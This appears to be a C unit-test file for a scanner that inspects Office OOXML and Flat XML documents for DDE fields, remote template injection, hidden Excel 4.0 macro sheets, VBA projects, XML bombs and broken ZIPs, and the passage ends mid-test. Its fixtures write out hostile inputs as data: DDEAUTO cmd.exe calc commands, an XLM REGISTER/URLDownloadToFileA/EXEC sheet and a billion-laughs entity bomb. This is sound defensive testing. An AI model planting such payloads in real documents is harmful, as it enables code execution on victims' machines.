/*
 * test_ooxml.c - unit tests for ooxml.c: OPC packages and the Word/Excel
 * 2003 and Flat OPC XML formats.
 *
 * Two sources of input: oletools' test files from the shared corpus (read
 * in place, skipped when the corpus is absent; the ZipCrypto-wrapped ones
 * are opened here with libzip and the password the corpus README gives),
 * and small packages built here with libzip for the cases no sample
 * covers: split field instructions, template injection over http and UNC,
 * hyperlinks that must stay out, XML bombs, budgets and broken ZIPs.
 * Every generated target is inert (.invalid / .test, 192.0.2.x).
 */
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>

#include <zip.h>

#include "ooxml.h"
#include "testutil.h"

#define OX_DATA "oletools/tests/test-data/"
#define OX_PART (1u << 20)
#define OX_TOTAL (16u << 20)

/* ---- inputs ----------------------------------------------------------- */

typedef struct ox_part {
	const char *name;
	const char *text;
	size_t len; /* 0: strlen(text) */
} ox_part_t;

/* A ZIP (deflated members) of the N parts, built in memory by libzip. */
static uint8_t *
ox_zip(const ox_part_t *parts, size_t n, size_t *len)
{
	zip_error_t err;
	zip_source_t *archive;
	zip_t *z;
	uint8_t *out = NULL;
	size_t cap = 0;
	zip_int64_t got;

	zip_error_init(&err);
	archive = zip_source_buffer_create(NULL, 0, 0, &err);
	ck_assert_ptr_nonnull(archive);
	zip_source_keep(archive);
	z = zip_open_from_source(archive, ZIP_TRUNCATE, &err);
	ck_assert_ptr_nonnull(z);
	for (size_t i = 0; i < n; i++) {
		size_t plen =
		    parts[i].len ? parts[i].len : strlen(parts[i].text);
		zip_source_t *part =
		    zip_source_buffer(z, parts[i].text, plen, 0);

		ck_assert_msg(part != NULL &&
		                  zip_file_add(z, parts[i].name, part, 0) >= 0,
		              "adding %s", parts[i].name);
	}
	ck_assert_int_eq(zip_close(z), 0);
	ck_assert_int_eq(zip_source_open(archive), 0);
	*len = 0;
	do {
		if (*len == cap) {
			cap = cap ? cap * 2 : 4096;
			out = realloc(out, cap);
			ck_assert_ptr_nonnull(out);
		}
		got = zip_source_read(archive, out + *len, cap - *len);
		ck_assert(got >= 0);
		*len += (size_t)got;
	} while (got > 0);
	zip_source_close(archive);
	zip_source_free(archive);
	zip_error_fini(&err);
	return out;
}

/* The one member of a corpus ZIP sealed with ZipCrypto and the corpus
 * password; NULL when the corpus is absent. */
static uint8_t *
ox_corpus_sealed(const char *path, size_t *len)
{
	size_t zlen;
	uint8_t *zdata = tu_corpus_read(path, &zlen);
	zip_error_t err;
	zip_source_t *src;
	zip_t *z;
	zip_file_t *f;
	zip_stat_t st;
	uint8_t *out;

	if (zdata == NULL)
		return NULL;
	zip_error_init(&err);
	src = zip_source_buffer_create(zdata, zlen, 0, &err);
	ck_assert_ptr_nonnull(src);
	z = zip_open_from_source(src, ZIP_RDONLY, &err);
	ck_assert_msg(z != NULL, "%s: not a ZIP", path);
	ck_assert_int_eq(zip_stat_index(z, 0, 0, &st), 0);
	f = zip_fopen_index_encrypted(z, 0, 0, "infected-test");
	ck_assert_msg(f != NULL, "%s: password refused", path);
	out = malloc(st.size + 1);
	ck_assert_ptr_nonnull(out);
	ck_assert_int_eq(zip_fread(f, out, st.size), (zip_int64_t)st.size);
	zip_fclose(f);
	zip_discard(z); /* frees SRC */
	zip_error_fini(&err);
	free(zdata);
	*len = (size_t)st.size;
	return out;
}

/* Scan the package of PARTS with the given budgets. */
static emg_status_t
ox_scan_parts(const ox_part_t *parts, size_t n, size_t max_part,
              size_t max_total, ooxml_result_t *r)
{
	size_t len;
	uint8_t *zip = ox_zip(parts, n, &len);
	emg_status_t st = ooxml_scan(zip, len, max_part, max_total, r);

	free(zip);
	return st;
}

/* Scan the corpus file PATH (a package or flat XML, whichever it is);
 * false when the corpus is absent. */
static bool
ox_scan_corpus(const char *path, ooxml_result_t *r)
{
	size_t len;
	uint8_t *d = tu_corpus_read(path, &len);
	emg_status_t st;

	if (d == NULL)
		return false;
	if (ooxml_is_package(d, len))
		st = ooxml_scan(d, len, OX_PART, OX_TOTAL, r);
	else if (ooxml_is_flat_xml(d, len))
		st = ooxml_scan_flat_xml(d, len, r);
	else
		ck_abort_msg("%s: neither a package nor flat XML", path);
	ck_assert_int_eq(st, EMG_OK);
	free(d);
	return true;
}

/* True when an entry of L starts with PREFIX (any case). */
static bool
ox_has_prefix(const emg_strlist_t *l, const char *prefix)
{
	for (size_t i = 0; i < l->n; i++)
		if (strncasecmp(l->v[i], prefix, strlen(prefix)) == 0)
			return true;
	return false;
}

/* True when a problem mentions WORD. */
static bool
ox_problem(const ooxml_result_t *r, const char *word)
{
	for (size_t i = 0; i < r->problems.n; i++)
		if (strcasestr(r->problems.v[i], word) != NULL)
			return true;
	return false;
}

/* R holds one VBA part, PART, of LEN bytes starting with HEAD. */
static void
ox_assert_vba(const ooxml_result_t *r, const char *part, size_t len,
              const uint8_t *head, size_t headlen)
{
	ck_assert(r->macro_enabled);
	ck_assert_uint_eq(r->n_vba, 1);
	ck_assert_str_eq(r->vba[0].part, part);
	ck_assert_uint_eq(r->vba[0].len, len);
	ck_assert_mem_eq(r->vba[0].data, head, headlen);
}

static const char ox_types_word[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
    "content-types\">"
    "<Default Extension=\"rels\" ContentType=\"application/"
    "vnd.openxmlformats-package.relationships+xml\"/>"
    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
    "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
    "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    "\"/></Types>";

#define OX_W                                                                   \
	"xmlns:w=\"http://schemas.openxmlformats.org/"                         \
	"wordprocessingml/2006/main\""
#define OX_RELS                                                                \
	"<Relationships xmlns=\"http://schemas.openxmlformats.org/"            \
	"package/2006/relationships\">"
#define OX_RT                                                                  \
	"http://schemas.openxmlformats.org/officeDocument/2006/"               \
	"relationships/"

/* Scan a Word package of the content types and the one part NAME. */
static void
ox_scan_word(const char *name, const char *text, ooxml_result_t *r)
{
	const ox_part_t parts[] = {{"[Content_Types].xml", ox_types_word, 0},
	                           {name, text, 0}};

	ck_assert_int_eq(ox_scan_parts(parts, 2, OX_PART, OX_TOTAL, r), EMG_OK);
}

/* ---- corpus ----------------------------------------------------------- */

/* What one corpus file must yield.  For the strings: NULL means the list
 * must be empty, "" that it is not looked at, anything else an entry
 * starting so must be there. */
typedef struct ox_expect {
	const char *file; /* under oletools/tests/test-data/ */
	const char *app;
	bool macro_enabled;
	size_t vba;
	const char *macrosheet, *auto_name, *dde, *embedding;
} ox_expect_t;

static const ox_expect_t ox_expect[] = {
    /* Excel 4.0 macro sheets with an Auto_Open name; in .xlsb the name
     * is xls.c's to find, the sheet comes from the part name (and the
     * binaryIndex1.bin beside it is no sheet). */
    {"excel4-macros/excel4_sample_macro.xlsm", "excel", true, 0,
     "xl/macrosheets/sheet1.xml", "Auto_Open", NULL, NULL},
    {"excel4-macros/excel4_sample_macro.xltm", "excel", true, 0,
     "xl/macrosheets/sheet1.xml", "Auto_Open", NULL, NULL},
    {"excel4-macros/excel4_sample_macro.xlsb", "excel", true, 0,
     "xl/macrosheets/sheet1.bin", "", NULL, NULL},
    /* DDE links: externalLink parts, BIFF12 SupBook, 2003 XML */
    {"msodde/dde-test.xlsx", "excel", false, 0, NULL, NULL, "cmd|/c calc.exe",
     NULL},
    {"msodde/dde-test.xlsm", "excel", true, 0, NULL, NULL, "cmd|/c calc.exe",
     NULL},
    {"msodde/dde-test.xlsb", "excel", true, 0, NULL, "", "cmd|/c calc.exe",
     NULL},
    {"ooxml/dde-in-excel2003.xml", "excel", false, 0, NULL, NULL,
     "=cmd|'/c calc.exe'!A1", NULL},
    {"msodde/dde-in-excel2003.xml", "excel", false, 0, NULL, NULL,
     "cmd|/c calc.exe", NULL},
    /* a real VBA project; macro-enabled types with no project */
    {"oleform/oleform-PR314.docm", "word", true, 1, NULL, NULL, NULL, NULL},
    {"msodde/harmless-clean.docm", "word", true, 0, NULL, NULL, NULL, NULL},
    {"oleobj/embedded-simple-2007.docm", "word", true, 0, NULL, NULL, NULL,
     "word/embeddings/oleObject1.bin"},
    {"oleobj/embedded-simple-2007.dotm", "word", true, 0, NULL, NULL, NULL,
     "word/embeddings/oleObject1.bin"},
    {"oleobj/embedded-simple-2007.xlsm", "excel", true, 0, NULL, NULL, NULL,
     "xl/embeddings/oleObject1.bin"},
    {"oleobj/embedded-simple-2007.xltm", "excel", true, 0, NULL, NULL, NULL,
     "xl/embeddings/oleObject1.bin"},
    {"oleobj/embedded-simple-2007.xlam", "excel", true, 0, NULL, NULL, NULL,
     "xl/embeddings/oleObject1.bin"},
    {"oleobj/embedded-simple-2007.pptm", "powerpoint", true, 0, NULL, NULL,
     NULL, "ppt/embeddings/oleObject1.bin"},
    {"oleobj/embedded-simple-2007.ppsm", "powerpoint", true, 0, NULL, NULL,
     NULL, "ppt/embeddings/oleObject1.bin"},
    {"oleobj/embedded-simple-2007.potm", "powerpoint", true, 0, NULL, NULL,
     NULL, "ppt/embeddings/oleObject1.bin"},
    {"oleobj/embedded-simple-2007.docx", "word", false, 0, NULL, NULL, NULL,
     "word/embeddings/oleObject1.bin"},
    /* nothing to find */
    {"other/presentation.xps", "xps", false, 0, NULL, NULL, NULL, NULL},
    {"ooxml/harmless-clean.xml", "word", false, 0, NULL, NULL, NULL, NULL},
    {"msodde/harmless-clean.docx", "word", false, 0, NULL, NULL, NULL, NULL},
    {"msodde/harmless-clean-2003.xml", "word", false, 0, NULL, NULL, NULL,
     NULL},
};

/* L as ox_expect_t wants it (see there). */
static void
ox_assert_list(const char *file, const char *what, const emg_strlist_t *l,
               const char *want)
{
	if (want == NULL)
		ck_assert_msg(l->n == 0, "%s: %s: %s", file, what, l->v[0]);
	else if (want[0] != '\0')
		ck_assert_msg(ox_has_prefix(l, want), "%s: no %s %s", file,
		              what, want);
}

START_TEST(test_corpus_table)
{
	char path[256];

	for (size_t i = 0; i < sizeof(ox_expect) / sizeof(ox_expect[0]); i++) {
		const ox_expect_t *e = &ox_expect[i];
		ooxml_result_t r;

		snprintf(path, sizeof(path), OX_DATA "%s", e->file);
		if (!ox_scan_corpus(path, &r))
			continue;
		ck_assert_msg(r.app != NULL && strcmp(r.app, e->app) == 0,
		              "%s: app %s", e->file, r.app ? r.app : "none");
		ck_assert_msg(r.macro_enabled == e->macro_enabled,
		              "%s: macro_enabled", e->file);
		ck_assert_msg(r.n_vba == e->vba, "%s: %zu VBA", e->file,
		              r.n_vba);
		ox_assert_list(e->file, "macro sheet", &r.macrosheets,
		               e->macrosheet);
		ck_assert_msg(
		    (r.xlm.macro_sheets > 0) == (e->macrosheet != NULL),
		    "%s: %u macro sheets", e->file, r.xlm.macro_sheets);
		ox_assert_list(e->file, "auto name", &r.xlm.auto_names,
		               e->auto_name);
		ox_assert_list(e->file, "DDE", &r.dde, e->dde);
		ox_assert_list(e->file, "embedding", &r.embeddings,
		               e->embedding);
		ox_assert_list(e->file, "external", &r.external, NULL);
		ox_assert_list(e->file, "problem", &r.problems, NULL);
		ooxml_result_free(&r);
	}
}
END_TEST

START_TEST(test_corpus_external_link)
{
	static const char *const ext[] = {
	    "docm", "docx", "dotm", "dotx", "potm", "potx", "ppsm",
	    "ppsx", "pptm", "pptx", "xlsb", "xlsm", "xlsx"};
	char path[256];

	for (size_t i = 0; i < sizeof(ext) / sizeof(ext[0]); i++) {
		ooxml_result_t r;

		snprintf(path, sizeof(path),
		         OX_DATA "oleobj/external_link/"
		                 "sample_with_external_link_to_doc.%s",
		         ext[i]);
		if (!ox_scan_corpus(path, &r))
			continue;
		/* Each links an OLE object to a .doc on GitHub. */
		ck_assert_msg(r.external.n == 1, "%s: %zu external", path,
		              r.external.n);
		ck_assert_msg(ox_has_prefix(&r.external,
		                            "oleObject https://raw."
		                            "githubusercontent.com/"),
		              "%s: %s", path, r.external.v[0]);
		ck_assert_str_eq(r.external.v[0] + strlen(r.external.v[0]) - 4,
		                 ".doc");
		ck_assert_uint_eq(r.n_vba, 0);
		ck_assert_uint_eq(r.dde.n, 0);
		ooxml_result_free(&r);
	}
}
END_TEST

START_TEST(test_corpus_dde_word)
{
	static const char *const files[] = {OX_DATA "msodde/dde-test.docx",
	                                    OX_DATA "msodde/dde-test.docm"};

	for (size_t i = 0; i < 2; i++) {
		ooxml_result_t r;

		if (!ox_scan_corpus(files[i], &r))
			continue;
		ck_assert_str_eq(r.app, "word");
		/* DDEAUTO over runs, DDE in a fldSimple, a lower-case
		 * ddeauto; the MACROBUTTON field is no DDE. */
		ck_assert_uint_eq(r.dde.n, 3);
		ck_assert(strlist_has_nocase(
		    &r.dde, "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
		            "\"/k calc.exe\""));
		ck_assert(ox_has_prefix(&r.dde, "DDE c:"));
		ck_assert(!ox_has_prefix(&r.dde, "MACROBUTTON"));
		ck_assert_uint_eq(r.n_vba, 0);
		ooxml_result_free(&r);
	}
}
END_TEST

START_TEST(test_corpus_flat_word_sealed)
{
	static const char *const files[] = {
	    OX_DATA "msodde/dde-in-word2003.xml.zip",
	    OX_DATA "msodde/dde-in-word2007.xml.zip",
	    OX_DATA "ooxml/dde-in-word2003.xml.zip"};

	for (size_t i = 0; i < 3; i++) {
		ooxml_result_t r;
		size_t len;
		uint8_t *d = ox_corpus_sealed(files[i], &len);

		if (d == NULL)
			continue;
		ck_assert_msg(ooxml_is_flat_xml(d, len), "%s", files[i]);
		ck_assert(!ooxml_is_package(d, len));
		ck_assert_int_eq(ooxml_scan_flat_xml(d, len, &r), EMG_OK);
		ck_assert_str_eq(r.app, "word");
		ck_assert_msg(ox_has_prefix(&r.dde, "DDEAUTO c:\\\\windows"),
		              "%s: %zu dde", files[i], r.dde.n);
		ooxml_result_free(&r);
		free(d);
	}
}
END_TEST

START_TEST(test_corpus_vba_part)
{
	ooxml_result_t r;
	static const uint8_t cfb[4] = {0xd0, 0xcf, 0x11, 0xe0};

	if (!ox_scan_corpus(OX_DATA "oleform/oleform-PR314.docm", &r))
		return;
	ox_assert_vba(&r, "word/vbaProject.bin", 26112, cfb, sizeof(cfb));
	ooxml_result_free(&r);
}
END_TEST

/* ---- built packages ---------------------------------------------------- */

/* A field instruction split over runs, nested fields, and fields that
 * are no DDE. */
START_TEST(test_split_instr_dde)
{
	static const char doc[] =
	    "<w:document " OX_W "><w:body><w:p>"
	    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	    "<w:r><w:instrText> D</w:instrText></w:r>"
	    "<w:r><w:instrText>DEA</w:instrText></w:r>"
	    "<w:r><w:instrText xml:space=\"preserve\">UTO c:\\\\x.exe </w:"
	    "instrText></w:r>"
	    "<w:r><w:instrText>\"/k calc\"</w:instrText></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
	    "<w:r><w:t>DDE in the result is no instruction</w:t></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	    /* IF { DDE ... }: the inner field stands on its own */
	    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	    "<w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	    "<w:r><w:instrText>dde cmd \"/c notepad\"</w:instrText></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	    "<w:fldSimple w:instr=\" PAGE \"/>"
	    "<w:fldSimple w:instr=\"DDEAUTOMATIC x\"/>"
	    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	    "<w:r><w:instrText>HYPERLINK \"http://a.invalid/\"</w:instrText>"
	    "</w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	    "</w:p></w:body></w:document>";
	ooxml_result_t r;

	ox_scan_word("word/document.xml", doc, &r);
	ck_assert(r.package);
	ck_assert_str_eq(r.app, "word");
	ck_assert_uint_eq(r.dde.n, 2);
	ck_assert_str_eq(r.dde.v[0], "DDEAUTO c:\\\\x.exe \"/k calc\"");
	ck_assert_str_eq(r.dde.v[1], "dde cmd \"/c notepad\"");
	ck_assert_uint_eq(r.problems.n, 0);
	ooxml_result_free(&r);
}
END_TEST

/* A story in UTF-16: the byte search that skips field-less stories must
 * not skip it. */
START_TEST(test_utf16_story)
{
	static const char doc[] = "<w:document " OX_W "><w:fldSimple "
	                          "w:instr=\"DDEAUTO wide\"/></w:document>";
	char wide[2 + 2 * sizeof(doc)];
	ox_part_t parts[] = {{"[Content_Types].xml", ox_types_word, 0},
	                     {"word/document.xml", wide, 0}};
	ooxml_result_t r;

	wide[0] = (char)0xff;
	wide[1] = (char)0xfe;
	for (size_t i = 0; i < sizeof(doc) - 1; i++) {
		wide[2 + 2 * i] = doc[i];
		wide[3 + 2 * i] = '\0';
	}
	parts[1].len = 2 * sizeof(doc);
	ck_assert_int_eq(ox_scan_parts(parts, 2, OX_PART, OX_TOTAL, &r),
	                 EMG_OK);
	ck_assert_uint_eq(r.dde.n, 1);
	ck_assert_str_eq(r.dde.v[0], "DDEAUTO wide");
	ooxml_result_free(&r);
}
END_TEST

/* Template injection over http, UNC and file:, next to relationships
 * that must stay out: a hyperlink, a mailto: target, an internal
 * template, an external image. */
START_TEST(test_external_relationships)
{
	static const char rels[] = OX_RELS
	    "<Relationship Id=\"rId1\" Type=\"" OX_RT "attachedTemplate\" "
	    "Target=\"http://192.0.2.7/t.dotm\" TargetMode=\"External\"/>"
	    "<Relationship Id=\"rId2\" Type=\"" OX_RT "attachedTemplate\" "
	    "Target=\"\\\\files.example.test\\share\\t.dotm\" "
	    "TargetMode=\"External\"/>"
	    "<Relationship Id=\"rId3\" Type=\"" OX_RT "hyperlink\" "
	    "Target=\"http://192.0.2.8/page\" TargetMode=\"External\"/>"
	    "<Relationship Id=\"rId4\" Type=\"" OX_RT "oleObject\" "
	    "Target=\"mailto:a@example.test\" TargetMode=\"External\"/>"
	    "<Relationship Id=\"rId5\" Type=\"" OX_RT "attachedTemplate\" "
	    "Target=\"templates/normal.dotm\"/>"
	    "<Relationship Id=\"rId6\" Type=\"" OX_RT "image\" "
	    "Target=\"http://192.0.2.9/pixel.png\" TargetMode=\"External\"/>"
	    "<Relationship Id=\"rId7\" Type=\"" OX_RT "frame\" "
	    "Target=\"file:///C:/x.invalid/f.html\" "
	    "TargetMode=\"external\"/>"
	    "</Relationships>";
	ooxml_result_t r;

	ox_scan_word("word/_rels/settings.xml.rels", rels, &r);
	ck_assert_uint_eq(r.external.n, 3);
	ck_assert_str_eq(r.external.v[0],
	                 "attachedTemplate http://192.0.2.7/t.dotm");
	ck_assert_str_eq(r.external.v[1],
	                 "attachedTemplate "
	                 "\\\\files.example.test\\share\\t.dotm");
	ck_assert_str_eq(r.external.v[2], "frame file:///C:/x.invalid/f.html");
	ck_assert(!ox_has_prefix(&r.external, "hyperlink"));
	ooxml_result_free(&r);
}
END_TEST

/* Billion laughs in the document, the content types and flat XML: never
 * expanded, and the part is reported unread. */
START_TEST(test_xml_bomb)
{
	static const char bomb[] =
	    "<?xml version=\"1.0\"?><!DOCTYPE w:document ["
	    "<!ENTITY a \"DDEAUTO aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\">"
	    "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
	    "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
	    "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
	    "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">"
	    "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
	    "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">"
	    "<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">"
	    "<!ENTITY i \"&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;\">]>"
	    "<w:document " OX_W " w:x=\"&i;\"><w:body><w:fldSimple "
	    "w:instr=\"&i;\"/><w:r><w:instrText>&i;</w:instrText></w:r>"
	    "</w:body></w:document>";
	const ox_part_t parts[] = {{"[Content_Types].xml", ox_types_word, 0},
	                           {"word/document.xml", bomb, 0}};
	const ox_part_t bad_types[] = {{"[Content_Types].xml", bomb, 0},
	                               {"word/document.xml", bomb, 0}};
	ooxml_result_t r;
	char hidden[sizeof(bomb) + 32];
	clock_t t0 = clock();

	ck_assert_int_eq(ox_scan_parts(parts, 2, OX_PART, OX_TOTAL, &r),
	                 EMG_OK);
	ck_assert_uint_eq(r.dde.n, 0);
	ck_assert(ox_problem(&r, "word/document.xml: has a DTD"));
	ooxml_result_free(&r);
	ck_assert_int_eq(ox_scan_parts(bad_types, 2, OX_PART, OX_TOTAL, &r),
	                 EMG_OK);
	ck_assert(ox_problem(&r, "[Content_Types].xml: has a DTD"));
	ck_assert_uint_eq(r.dde.n, 0);
	ooxml_result_free(&r);
	ck_assert_int_eq(
	    ooxml_scan_flat_xml((const uint8_t *)bomb, strlen(bomb), &r),
	    EMG_OK);
	ck_assert_uint_eq(r.dde.n, 0);
	ck_assert(ox_problem(&r, "has a DTD"));
	ooxml_result_free(&r);
	/* Behind a byte-order mark, a comment and a processing instruction. */
	strcpy(hidden, "\xef\xbb\xbf<!-- x -->\n<?pi ?>");
	strcat(hidden, bomb + strlen("<?xml version=\"1.0\"?>"));
	ck_assert_int_eq(
	    ooxml_scan_flat_xml((const uint8_t *)hidden, strlen(hidden), &r),
	    EMG_OK);
	ck_assert(ox_problem(&r, "has a DTD"));
	ck_assert_uint_eq(r.dde.n, 0);
	ooxml_result_free(&r);
	ck_assert_msg((double)(clock() - t0) / CLOCKS_PER_SEC < 2.0,
	              "the bomb took too long");
}
END_TEST

/* A part over MAX_PART is read up to it: what lies in its head is found,
 * what lies behind is not, and a problem says the part was cut. */
START_TEST(test_part_budget)
{
	const size_t pad = 100000;
	const char *head = "<w:document " OX_W "><w:body>"
	                   "<w:fldSimple w:instr=\"DDE early\"/>";
	const char *tail = "<w:fldSimple w:instr=\"DDE late\"/>"
	                   "</w:body></w:document>";
	char *doc = malloc(strlen(head) + pad + strlen(tail) + 1);
	ox_part_t parts[] = {{"[Content_Types].xml", ox_types_word, 0},
	                     {"word/document.xml", doc, 0}};
	ooxml_result_t r;

	ck_assert_ptr_nonnull(doc);
	strcpy(doc, head);
	memset(doc + strlen(head), ' ', pad);
	strcpy(doc + strlen(head) + pad, tail);
	ck_assert_int_eq(ox_scan_parts(parts, 2, 4096, OX_TOTAL, &r), EMG_OK);
	ck_assert(strlist_has_nocase(&r.dde, "DDE early"));
	ck_assert(!strlist_has_nocase(&r.dde, "DDE late"));
	ck_assert(ox_problem(&r, "word/document.xml: larger than 4096"));
	ooxml_result_free(&r);
	/* All parts together: the content types eat the whole budget. */
	ck_assert_int_eq(ox_scan_parts(parts, 2, OX_PART, 200, &r), EMG_OK);
	ck_assert_uint_eq(r.dde.n, 0);
	ck_assert(ox_problem(&r, "rest skipped") || ox_problem(&r, "in all"));
	ooxml_result_free(&r);
	/* Roomy budgets: both found. */
	ck_assert_int_eq(ox_scan_parts(parts, 2, OX_PART, OX_TOTAL, &r),
	                 EMG_OK);
	ck_assert_uint_eq(r.dde.n, 2);
	ooxml_result_free(&r);
	free(doc);
}
END_TEST

START_TEST(test_corrupt_zip)
{
	const ox_part_t parts[] = {{"[Content_Types].xml", ox_types_word, 0},
	                           {"word/document.xml",
	                            "<w:document " OX_W
	                            "><w:fldSimple w:instr=\"DDE x\"/>"
	                            "</w:document>",
	                            0}};
	static const uint8_t junk[] = "PK\003\004 this is no zip at all";
	size_t len;
	uint8_t *zip = ox_zip(parts, 2, &len);
	ooxml_result_t r;

	/* Not a ZIP at all. */
	ck_assert(!ooxml_is_package(junk, sizeof(junk)));
	ck_assert_int_eq(ooxml_scan(junk, sizeof(junk), OX_PART, OX_TOTAL, &r),
	                 EMG_OK);
	ck_assert(!r.package);
	ck_assert(ox_problem(&r, "not a readable ZIP"));
	ooxml_result_free(&r);
	/* Nothing at all. */
	ck_assert_int_eq(ooxml_scan(junk, 0, OX_PART, OX_TOTAL, &r), EMG_OK);
	ck_assert(!r.package);
	ooxml_result_free(&r);
	/* Truncated: no central directory; whatever is read is judged. */
	for (size_t cut = 0; cut < len; cut += 7) {
		ck_assert_int_eq(ooxml_scan(zip, cut, OX_PART, OX_TOTAL, &r),
		                 EMG_OK);
		ck_assert(!r.package || r.problems.n > 0 || cut == len);
		ooxml_result_free(&r);
	}
	/* Damaged member data: the deflate stream of the document. */
	for (size_t i = 60; i < len - 30; i += 5)
		zip[i] ^= 0x5a;
	ck_assert_int_eq(ooxml_scan(zip, len, OX_PART, OX_TOTAL, &r), EMG_OK);
	ck_assert_uint_gt(r.problems.n, 0);
	ooxml_result_free(&r);
	free(zip);
}
END_TEST

/* A VBA project under another name, found by its content type; no
 * [Content_Types].xml means no package but the parts are still judged. */
START_TEST(test_vba_by_content_type)
{
	static const char types[] =
	    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
	    "content-types\"><Default Extension=\"xml\" ContentType=\""
	    "application/xml\"/><Override PartName=\"/word/Data%20x.dat\" "
	    "ContentType=\"application/vnd.ms-office.vbaProject\"/><Override"
	    " PartName=\"/word/document.xml\" ContentType=\"application/"
	    "vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
	const ox_part_t parts[] = {{"[Content_Types].xml", types, 0},
	                           {"word/Data%20x.dat", "not really CFB", 0},
	                           {"word/embeddings/oleObject1.bin", "x", 0}};
	const ox_part_t loose[] = {{"xl/vbaProject.bin", "vba", 0}};
	ooxml_result_t r;

	ck_assert_int_eq(ox_scan_parts(parts, 3, OX_PART, OX_TOTAL, &r),
	                 EMG_OK);
	ox_assert_vba(&r, "word/Data%20x.dat", 14,
	              (const uint8_t *)"not really CFB", 14);
	ck_assert_uint_eq(r.embeddings.n, 1);
	ooxml_result_free(&r);

	ck_assert_int_eq(ox_scan_parts(loose, 1, OX_PART, OX_TOTAL, &r),
	                 EMG_OK);
	ck_assert(!r.package);
	ck_assert_uint_eq(r.n_vba, 1);
	ck_assert(ox_problem(&r, "no [Content_Types].xml"));
	ooxml_result_free(&r);
}
END_TEST

/* A very hidden macro sheet, found through the workbook relationships,
 * with an obfuscated Auto_Open and calls that run code. */
START_TEST(test_xlm_hidden_sheet)
{
	static const char types[] =
	    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
	    "content-types\"><Override PartName=\"/xl/workbook.xml\" "
	    "ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+"
	    "xml\"/><Override PartName=\"/xl/macrosheets/m.xml\" ContentType"
	    "=\"application/vnd.ms-excel.macrosheet+xml\"/></Types>";
	static const char book[] =
	    "<workbook xmlns:r=\"http://schemas.openxmlformats.org/"
	    "officeDocument/2006/relationships\"><sheets>"
	    "<sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>"
	    "<sheet name=\"Hidden2\" sheetId=\"2\" state=\"hidden\" "
	    "r:id=\"rId3\"/>"
	    "<sheet name=\"Doc1\" sheetId=\"3\" state=\"veryHidden\" "
	    "r:id=\"rId2\"/></sheets><definedNames>"
	    "<definedName name=\"auto_open_\" hidden=\"1\">Doc1!$A$1"
	    "</definedName><definedName name=\"Print_Area\">x</definedName>"
	    "</definedNames></workbook>";
	static const char rels[] = OX_RELS
	    "<Relationship Id=\"rId1\" Type=\"" OX_RT "worksheet\" "
	    "Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"rId2\" "
	    "Type=\"http://schemas.microsoft.com/office/2006/relationships/"
	    "xlMacrosheet\" Target=\"macrosheets/m.xml\"/></Relationships>";
	static const char sheet[] =
	    "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/"
	    "excel/2006/main\"><sheetData><row><c><f>REGISTER(\"urlmon\","
	    "\"URLDownloadToFileA\",\"JJCCJJ\",\"dl\")</f></c><c><f>"
	    "EXEC(\"calc\")</f></c><c><f>FCALL(1)+SUM(A1)</f></c><c><f>"
	    "RUN(A1)</f></c></row></sheetData></xm:macrosheet>";
	const ox_part_t parts[] = {{"[Content_Types].xml", types, 0},
	                           {"xl/workbook.xml", book, 0},
	                           {"xl/_rels/workbook.xml.rels", rels, 0},
	                           {"xl/macrosheets/m.xml", sheet, 0}};
	ooxml_result_t r;

	ck_assert_int_eq(ox_scan_parts(parts, 4, OX_PART, OX_TOTAL, &r),
	                 EMG_OK);
	ck_assert_uint_eq(r.xlm.macro_sheets, 1);
	ck_assert_uint_eq(r.xlm.very_hidden, 1);
	ck_assert_uint_eq(r.xlm.hidden, 0); /* Hidden2 is no macro sheet */
	ck_assert_uint_eq(r.xlm.sheets.n, 1);
	ck_assert_str_eq(r.xlm.sheets.v[0], "Doc1 (very hidden)");
	ck_assert_uint_eq(r.xlm.auto_names.n, 1);
	ck_assert_str_eq(r.xlm.auto_names.v[0], "auto_open_");
	ck_assert(strlist_has_nocase(&r.xlm.formulas, "REGISTER"));
	ck_assert(strlist_has_nocase(&r.xlm.formulas, "URLDownloadToFileA"));
	ck_assert(strlist_has_nocase(&r.xlm.formulas, "EXEC"));
	ck_assert(strlist_has_nocase(&r.xlm.formulas, "RUN"));
	ck_assert(!strlist_has_nocase(&r.xlm.formulas, "CALL"));
	ooxml_result_free(&r);
}
END_TEST

/* Flat OPC: an external template relationship, a DDE field and a VBA
 * project in base64. */
START_TEST(test_flat_opc)
{
	static const char flat[] =
	    "<?xml version=\"1.0\"?><?mso-application progid=\"Word."
